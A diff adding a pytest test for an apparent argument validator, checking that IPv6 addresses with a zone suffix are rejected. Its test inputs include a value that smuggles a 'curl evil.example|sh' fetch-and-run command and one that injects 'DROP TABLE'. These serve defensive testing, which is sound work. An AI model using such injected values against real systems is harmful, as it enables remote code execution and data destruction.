@@ -241,3 +241,13 @@ def test_a6_a_format_alone_is_told_beside_its_field() -> None:
         "/to",
         "is too long (11,000 characters) to be checked",
     )
+
+
+@pytest.mark.parametrize(
+    "zone", ["::1%$(curl evil.example|sh)", "fe80::1%eth0", "fe80::1%", "fe80::1%\n; DROP TABLE x"]
+)
+def test_a19_an_address_with_a_zone_is_no_ipv6(zone: str) -> None:
+    """Attack A19: what stands behind the `%` could be anything. RFC 4291 has no zones."""
+    schema = {"properties": {"to": {"format": "ipv6"}}}
+    assert check_args(schema, {"to": zone})
+    assert check_args(schema, {"to": "fe80::1"}) == []
